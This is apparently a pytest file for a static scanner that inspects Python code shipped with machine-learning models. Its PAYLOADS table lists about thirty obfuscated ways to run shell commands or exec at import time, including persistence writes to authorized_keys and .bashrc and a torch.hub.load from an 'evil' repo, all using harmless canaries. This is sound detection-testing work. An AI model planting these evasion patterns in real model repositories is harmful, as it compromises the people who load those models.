"""Shipped Python is judged statically: what it reaches, and whether it runs when the model loads."""

from __future__ import annotations

from pathlib import Path

import pytest

from modelsteward.core import Severity
from tests.conftest import ScanBytes

MODELING = '''
"""PyTorch MyModel, the shape of a transformers remote-code modelling file."""
import math
import os
import re
from typing import Optional

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging

from .configuration_my import MyConfig

logger = logging.get_logger(__name__)
_PATTERN = re.compile(r"layers\\.(\\d+)")
USE_FLASH = os.environ.get("USE_FLASH", "0") == "1"


class MyAttention(nn.Module):
    def __init__(self, config: MyConfig) -> None:
        super().__init__()
        self.scale = 1 / math.sqrt(config.hidden_size // config.num_heads)
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        q, k, v = self.qkv(x).chunk(3, dim=-1)
        return F.scaled_dot_product_attention(q, k, v, attn_mask=mask)


class MyModel(PreTrainedModel):
    config_class = MyConfig

    def __init__(self, config: MyConfig) -> None:
        super().__init__(config)
        self.layers = nn.ModuleList(MyAttention(config) for _ in range(config.num_layers))
        self.post_init()
        self.eval()

    def compiled(self) -> nn.Module:
        return torch.compile(self)

    def load_adapter(self, path: str) -> None:
        with open(os.path.join(path, "adapter.json"), encoding="utf-8") as handle:
            self.adapter = handle.read()
'''

TOKENIZATION = """
import json
import os

from transformers import PreTrainedTokenizer

VOCAB_FILES_NAMES = {"vocab_file": "vocab.json"}


class MyTokenizer(PreTrainedTokenizer):
    vocab_files_names = VOCAB_FILES_NAMES

    def __init__(self, vocab_file, **kwargs):
        with open(vocab_file, encoding="utf-8") as handle:
            self.encoder = json.load(handle)
        super().__init__(**kwargs)

    def save_vocabulary(self, save_directory, filename_prefix=None):
        path = os.path.join(save_directory, (filename_prefix or "") + "vocab.json")
        with open(path, "w", encoding="utf-8") as handle:
            handle.write(json.dumps(self.encoder))
        return (path,)
"""


@pytest.mark.parametrize(
    ("name", "source"), [("modeling_my.py", MODELING), ("tokenization_my.py", TOKENIZATION)]
)
def test_ordinary_remote_code_has_nothing_at_medium(scan_bytes: ScanBytes, name: str, source: str) -> None:
    report = scan_bytes(source.encode(), name=name)
    assert [f for f in report.findings if f.severity >= Severity.MEDIUM] == []
    assert report.status == "scanned"


# Payloads write the canary if ever run; each with the rule and severity it must get.
PAYLOADS = {
    "module-level os.system": ("import os\nos.system('touch CANARY')\n", "CODE-SHELL", Severity.CRITICAL),
    "alias in __init__": (
        "import subprocess as sp\nclass M:\n    def __init__(self):\n        sp.run(['touch', 'CANARY'])\n",
        "CODE-SHELL",
        Severity.CRITICAL,
    ),
    "from-import in helper": (
        "from os import system\ndef helper():\n    system('touch CANARY')\n",
        "CODE-SHELL",
        Severity.HIGH,
    ),
    "__import__ chain": ("__import__('os').system('touch CANARY')\n", "CODE-SHELL", Severity.CRITICAL),
    "getattr on module": (
        "import os\ngetattr(os, 'system')('touch CANARY')\n",
        "CODE-SHELL",
        Severity.CRITICAL,
    ),
    "star import": ("from os import *\nsystem('touch CANARY')\n", "CODE-SHELL", Severity.CRITICAL),
    "decorator runs at import": (
        "import os\n@os.system('touch CANARY')\ndef f():\n    pass\n",
        "CODE-SHELL",
        Severity.CRITICAL,
    ),
    "exec of base64": (
        "import base64\ndef f():\n    exec(base64.b64decode('b3BlbignQ0FOQVJZJywndycp'))\n",
        "CODE-EXEC-OBFUSCATED",
        Severity.CRITICAL,
    ),
    "eval of zlib via builtins": (
        "import builtins, zlib\nbuiltins.eval(zlib.decompress(b'x'))\n",
        "CODE-EXEC-OBFUSCATED",
        Severity.CRITICAL,
    ),
    "exec at class level": (
        "class M:\n    exec(\"open('CANARY', 'w')\")\n",
        "CODE-EXEC",
        Severity.HIGH,
    ),
    "network at import": (
        "import urllib.request\nurllib.request.urlopen('http://127.0.0.1/CANARY')\n",
        "CODE-NETWORK",
        Severity.HIGH,
    ),
    "ssh key at import": (
        "import os\nkeys = os.path.expanduser('~/.ssh/authorized_keys')\nopen(keys, 'a').write('CANARY')\n",
        "CODE-SENSITIVE-WRITE",
        Severity.HIGH,
    ),
    "pathlib write to bashrc": (
        "from pathlib import Path\n(Path.home() / '.bashrc').write_text('touch CANARY')\n",
        "CODE-SENSITIVE-WRITE",
        Severity.HIGH,
    ),
    # Names spelled at run time, namespaces reached by subscript, callables passed by reference.
    "getattr on __builtins__ with concatenation": (
        "getattr(__builtins__, 'ex' + 'ec')(\"open('CANARY', 'w')\")\n",
        "CODE-EXEC",
        Severity.HIGH,
    ),
    "vars(builtins) subscript": (
        "import builtins\nvars(builtins)['ev' + 'al'](\"open('CANARY', 'w')\")\n",
        "CODE-EXEC",
        Severity.HIGH,
    ),
    "globals builtins subscript": (
        "globals()['__builtins__'].exec(\"open('CANARY', 'w')\")\n",
        "CODE-EXEC",
        Severity.HIGH,
    ),
    "import_module of concatenation": (
        "import importlib\nimportlib.import_module('o' + 's').system('touch CANARY')\n",
        "CODE-SHELL",
        Severity.CRITICAL,
    ),
    "__import__ of a constant variable": (
        "name = f\"{'sub'}process\"\n__import__(name).Popen(['touch', 'CANARY'])\n",
        "CODE-SHELL",
        Severity.CRITICAL,
    ),
    "sys.modules subscript": (
        "import sys\nsys.modules['os'].system('touch CANARY')\n",
        "CODE-SHELL",
        Severity.CRITICAL,
    ),
    "posix alias of os": ("import posix\nposix.system('touch CANARY')\n", "CODE-SHELL", Severity.CRITICAL),
    "callable rebound to a name": (
        "import os\nrun = os.system\nrun('touch CANARY')\n",
        "CODE-SHELL",
        Severity.CRITICAL,
    ),
    "walrus-bound exec": ("(e := exec)(\"open('CANARY', 'w')\")\n", "CODE-EXEC", Severity.HIGH),
    "bare decorator reference": (
        "@__import__('os').system\ndef f():\n    pass\n",
        "CODE-SHELL",
        Severity.CRITICAL,
    ),
    "atexit registers os.system": (
        "import atexit, os\natexit.register(os.system, 'touch CANARY')\n",
        "CODE-SHELL",
        Severity.CRITICAL,
    ),
    "thread target": (
        "import os, threading\nthreading.Thread(target=os.system, args=('touch CANARY',)).start()\n",
        "CODE-SHELL",
        Severity.CRITICAL,
    ),
    "map over exec": ("list(map(exec, [\"open('CANARY', 'w')\"]))\n", "CODE-EXEC", Severity.HIGH),
    "operator.methodcaller": (
        "import operator, os\noperator.methodcaller('system', 'touch CANARY')(os)\n",
        "CODE-SHELL",
        Severity.CRITICAL,
    ),
    "pickle.loads of an embedded blob": (
        "import base64, pickle\npickle.loads(base64.b64decode('Q0FOQVJZ'))\n",
        "CODE-EXEC-OBFUSCATED",
        Severity.CRITICAL,
    ),
    "pip.main installs at import": (
        "import pip\npip.main(['install', 'CANARY'])\n",
        "CODE-SHELL",
        Severity.CRITICAL,
    ),
    "torch.hub.load imports remote code": (
        "import torch\ntorch.hub.load('evil/CANARY', 'model', trust_repo=True)\n",
        "CODE-NETWORK",
        Severity.HIGH,
    ),
}


def test_rebinding_a_constant_stops_folding_it(scan_bytes: ScanBytes) -> None:
    source = (
        "import importlib\nname = 'os'\nname = pick()\ndef f():\n    return importlib.import_module(name)\n"
    )
    report = scan_bytes(source.encode(), name="modeling_x.py")
    assert [(f.rule, f.severity) for f in report.findings] == [("CODE-DYNAMIC-IMPORT", Severity.MEDIUM)]


def test_harmless_callables_passed_by_reference_are_fine(scan_bytes: ScanBytes) -> None:
    source = (
        "import functools, logging, torch\nfrom torch import nn\nlogger = logging.getLogger(__name__)\n"
        "act = nn.functional.gelu\nlist(map(str, range(3)))\nfunctools.partial(torch.matmul, out=None)\n"
        "@functools.lru_cache\ndef f():\n    return sorted([1], key=len)\n"
    )
    assert not scan_bytes(source.encode(), name="modeling_x.py").findings


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_payloads_get_their_rule_and_severity(scan_bytes: ScanBytes, canary: Path, name: str) -> None:
    source, rule, severity = PAYLOADS[name]
    report = scan_bytes(source.replace("CANARY", str(canary)).encode(), name="modeling_evil.py")
    assert (rule, severity) in {(f.rule, f.severity) for f in report.findings}
    assert not canary.exists()


@pytest.mark.parametrize(
    ("source", "rule", "severity"),
    [
        ("def f(x):\n    return eval(x)\n", "CODE-EXEC", Severity.MEDIUM),
        ("import requests\ndef f():\n    return requests.get('http://x')\n", "CODE-NETWORK", Severity.MEDIUM),
        (
            "import importlib\ndef f(n):\n    return importlib.import_module(n)\n",
            "CODE-DYNAMIC-IMPORT",
            Severity.MEDIUM,
        ),
        ("import torch\ndef f(p):\n    return torch.load(p)\n", "CODE-UNSAFE-DESERIALIZATION", Severity.LOW),
        (
            "import pickle\ndef f(b):\n    return pickle.loads(b)\n",
            "CODE-UNSAFE-DESERIALIZATION",
            Severity.LOW,
        ),
        (
            "from transformers import AutoModel\ndef f():\n    return AutoModel.from_pretrained('a/b')\n",
            "CODE-UNPINNED-DOWNLOAD",
            Severity.INFO,
        ),
    ],
)
def test_risky_code_outside_load_time_weighs_less(
    scan_bytes: ScanBytes, source: str, rule: str, severity: Severity
) -> None:
    report = scan_bytes(source.encode(), name="utils.py")
    assert [(f.rule, f.severity) for f in report.findings] == [(rule, severity)]


def test_main_guard_is_not_import_time(scan_bytes: ScanBytes) -> None:
    source = "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['convert'])\n"
    report = scan_bytes(source.encode(), name="convert.py")
    assert [(f.rule, f.severity) for f in report.findings] == [("CODE-SHELL", Severity.HIGH)]


def test_method_names_that_shadow_builtins_are_not_builtins(scan_bytes: ScanBytes) -> None:
    source = (
        "import re, torch\nfrom re import compile\nP = compile('x')\nm = torch.compile(model)\nmodel.eval()\n"
    )
    assert scan_bytes(source.encode(), name="x.py").findings == ()


def test_reading_a_system_file_is_not_a_write(scan_bytes: ScanBytes) -> None:
    assert scan_bytes(b"data = open('/etc/hostname').read()\n", name="x.py").findings == ()


def test_python_that_does_not_parse_is_incomplete(scan_bytes: ScanBytes) -> None:
    report = scan_bytes(b"def broken(:\n    pass\n", name="modeling_x.py")
    assert [(f.rule, f.severity) for f in report.findings] == [("CODE-PARSE-ERROR", Severity.LOW)]
    assert report.status == "incomplete"


def test_deeply_nested_python_is_incomplete_not_an_error(scan_bytes: ScanBytes) -> None:
    report = scan_bytes(b"x = " + b"(" * 100_000 + b"1" + b")" * 100_000 + b"\n", name="x.py")
    assert report.status == "incomplete"
    assert "SCAN-ERROR" not in {f.rule for f in report.findings}
